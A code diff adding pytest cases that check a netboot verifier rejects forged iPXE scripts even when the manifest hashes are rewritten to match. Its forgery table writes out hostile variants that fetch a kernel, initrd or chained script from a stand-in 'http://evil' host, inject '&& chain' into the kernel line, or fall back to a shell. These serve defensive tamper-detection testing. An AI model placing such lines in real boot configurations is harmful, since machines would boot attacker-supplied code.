@@ -4,6 +4,7 @@ failed check naming the first line that differs."""
 
 from __future__ import annotations
 
+import os
 from collections.abc import Callable
 from pathlib import Path
 
@@ -146,3 +147,64 @@ def test_a_missing_script_fails(make_set: Callable[..., Path]) -> None:
     (directory / IPXE).unlink()
     assert failures(directory) == {"file:netboot.ipxe", "ipxe.header"}
     assert results(directory)["ipxe.header"] == ("fail", "netboot.ipxe is missing")
+
+
+KERNEL_LINE = "kernel ${boot-server}/worker/bzImage initrd=initrd"
+INITRD_LINE = "initrd --name initrd ${boot-server}/worker/initrd"
+FORGERIES = {
+    "kernel-elsewhere": lambda s: s.replace("${boot-server}/worker/bzImage", "http://evil/bzImage"),
+    "initrd-elsewhere": lambda s: s.replace(INITRD_LINE, "initrd --name initrd http://evil/initrd"),
+    "extra-chain": lambda s: s.replace("boot\n", "chain http://evil/x.ipxe\nboot\n"),
+    "chain-instead": lambda s: s.replace("boot\n", "chain http://evil/x.ipxe\n"),
+    "second-kernel": lambda s: s.replace(INITRD_LINE, f"{INITRD_LINE}\nkernel http://evil/bzImage"),
+    "extra-initrd": lambda s: s.replace(INITRD_LINE, f"{INITRD_LINE}\ninitrd http://evil/overlay"),
+    "goto": lambda s: s.replace("boot\n", "goto evil\nboot\n"),
+    "shell": lambda s: s.replace("boot\n", "boot || shell\n"),
+    "param-chain": lambda s: s.replace(KERNEL_LINE, f"{KERNEL_LINE} && chain http://evil/"),
+    "param-variable": lambda s: s.replace(KERNEL_LINE, KERNEL_LINE + " x=${net0/mac}"),
+    "crlf": lambda s: s.replace("\n", "\r\n"),
+    "bom": lambda s: "\ufeff" + s,
+    "leading-space": lambda s: " " + s,
+    "leading-newline": lambda s: "\n" + s,
+    "trailing-junk": lambda s: s + "echo hi\n",
+    "trailing-blank": lambda s: s + "\n",
+    "no-final-newline": lambda s: s.rstrip("\n"),
+    "tab-separated": lambda s: s.replace("kernel ", "kernel\t"),
+    "double-space": lambda s: s.replace(" initrd=initrd", "  initrd=initrd"),
+    "comment-label": lambda s: s.replace("# plasmaboot: worker", "# plasmaboot: worker\n#!ipxe"),
+    "imgfetch": lambda s: s.replace("boot\n", "imgfetch http://evil/x\nboot\n"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("forgery", FORGERIES)
+def test_a_forged_script_with_a_manifest_rewritten_to_match_fails(
+    make_set: Callable[..., Path], forgery: str
+) -> None:
+    directory = make_set()
+    text = (directory / IPXE).read_text()
+    assert KERNEL_LINE in text and INITRD_LINE in text
+    forged = FORGERIES[forgery](text)
+    assert forged != text
+    (directory / IPXE).write_bytes(forged.encode())
+    rehash(directory)  # the manifest's hashes agree: only the script's shape can tell
+    assert failures(directory) & {"ipxe.header", "ipxe.script"}, forged
+
+
+@pytest.mark.parametrize("kind", ["fifo", "huge", "directory"])
+def test_a_script_that_is_no_small_file_fails_at_once(
+    make_set: Callable[..., Path], kind: str
+) -> None:
+    directory = make_set()
+    script = directory / IPXE
+    script.unlink()
+    if kind == "fifo":
+        os.mkfifo(script)  # reading it would wait for a writer for ever
+    elif kind == "huge":
+        with script.open("wb") as out:
+            out.write(b"#!ipxe\n")
+            out.truncate(4 << 30)
+    else:
+        script.mkdir()
+    code, report, _ = run_verify(directory)
+    header = next(c for c in report["checks"] if c["name"] == "ipxe.header")
+    assert code == 1 and header["result"] == "fail", header
